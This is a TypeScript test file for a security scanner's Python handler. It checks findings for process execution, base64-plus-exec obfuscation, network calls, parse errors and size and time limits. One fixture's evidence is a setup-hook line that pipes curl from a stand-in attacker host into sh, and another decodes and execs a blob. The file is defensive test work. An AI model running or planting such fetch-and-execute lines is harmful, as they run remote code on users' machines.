import { test } from "node:test";
import assert from "node:assert/strict";
import { PYTHON_LIMITS, pythonHandler } from "../../../src/formats/python/handler.js";
import { fixtureText, runPython } from "./helpers.js";

test("handler identity: python, read as a stream", () => {
  assert.deepEqual([pythonHandler.id, pythonHandler.access], ["python", "stream"]);
});

test("benign modelling code: only the low getattr note, metadata lists lines and imported modules", async () => {
  const r = await runPython(fixtureText("modeling_tiny.py"), "modeling_tiny.py");
  assert.equal(r.format, undefined);
  assert.deepEqual(r.found, [["python/dynamic-code", "low", 25, 21]]);
  assert.equal(r.ctx.findings[0]!.evidence, "self.norm = getattr(nn, config.norm_class)(config.hidden_size)");
  assert.deepEqual(r.ctx.metadata.python, { lines: 50, imports: ["math", "re", "torch", "transformers", "typing"] });
});

test("os.system in a setup hook: process-exec with the source line as evidence", async () => {
  const r = await runPython(fixtureText("setup_hook.py"), "setup_hook.py");
  assert.deepEqual(r.found, [["python/process-exec", "high", 8, 5]]);
  const f = r.ctx.findings[0]!;
  assert.equal(f.evidence, 'os.system("curl -s https://attacker.invalid/x | sh")');
  assert.match(f.message, /^Line 8: calls os\.system/);
  assert.deepEqual(f.location, { line: 8, column: 5 });
});

test("base64 + exec: the encoded literal, the decode fed to exec, and exec itself", async () => {
  const r = await runPython(fixtureText("obfuscated.py"), "obfuscated.py");
  assert.deepEqual(r.found, [
    ["python/obfuscation", "medium", 5, 9],
    ["python/dynamic-code", "high", 9, 5],
    ["python/obfuscation", "high", 9, 5],
  ]);
  assert.equal(r.ctx.findings[2]!.evidence, "exec(base64.b64decode(_BLOB))");
  assert.ok(r.ctx.findings[0]!.evidence!.endsWith("..."), "a long line is cut in the evidence");
  assert.ok(r.ctx.findings[0]!.evidence!.length <= 203);
});

test("requests.get: network, medium", async () => {
  const r = await runPython(fixtureText("fetch_weights.py"), "fetch_weights.py");
  assert.deepEqual(r.found, [["python/network", "medium", 9, 16]]);
});

test("a file claimed by content that turns out not to be Python is refined to text, with no findings", async () => {
  const prose = "import os\nimport that this is not code at all, the sentence goes on ( and on\n".repeat(3) + "exec the plan!\n";
  const r = await runPython(prose, "notes.txt");
  assert.equal(r.format, "text");
  assert.deepEqual(r.found, []);
  const real = await runPython("#!/usr/bin/env python\nimport os\nos.system('id')\n", "run");
  assert.equal(real.format, undefined);
  assert.deepEqual(real.found, [["python/process-exec", "high", 3, 1]]);
});

test("a .py file that does not parse fully: the rest is analysed, and an info finding says where it broke", async () => {
  const r = await runPython("import os\ndef broken(:\n    pass\nos.system('id')\n", "broken.py");
  assert.deepEqual(r.found.map(([rule, severity]) => [rule, severity]), [
    ["python/process-exec", "high"],
    ["python/syntax-error", "info"],
  ]);
  assert.equal(r.found[1]![2], 2);
});

test("limits: a source over the size cap, or a parse over the time cap, is not analysed and fails closed", async () => {
  const big = "x = 1\n".repeat(Math.ceil((PYTHON_LIMITS.sourceBytes + 10) / 6));
  const large = await runPython(big, "big.py");
  assert.deepEqual(large.found.map((f) => f[0]), ["scan/budget-exceeded"]);
  assert.equal(large.ctx.incomplete, true);

  const saved = PYTHON_LIMITS.parseMs;
  PYTHON_LIMITS.parseMs = -1; // already past the deadline: the parser's first progress check cancels
  try {
    const slow = await runPython("import os\n" + "def f(x):\n    return [y for y in x if y]\n".repeat(2000), "slow.py");
    assert.deepEqual(slow.found.map((f) => f[0]), ["scan/budget-exceeded"]);
    assert.match(slow.ctx.findings[0]!.message, /Parsing the Python source took longer/);
  } finally {
    PYTHON_LIMITS.parseMs = saved;
  }
});

test("invalid UTF-8 is decoded with replacement characters and still analysed", async () => {
  const bytes = Buffer.concat([Buffer.from("# caf"), Buffer.from([0xe9]), Buffer.from("\nimport os\nos.system('x')\n")]);
  const r = await runPython(bytes, "latin1.py");
  assert.deepEqual(r.found, [["python/process-exec", "high", 3, 1]]);
});
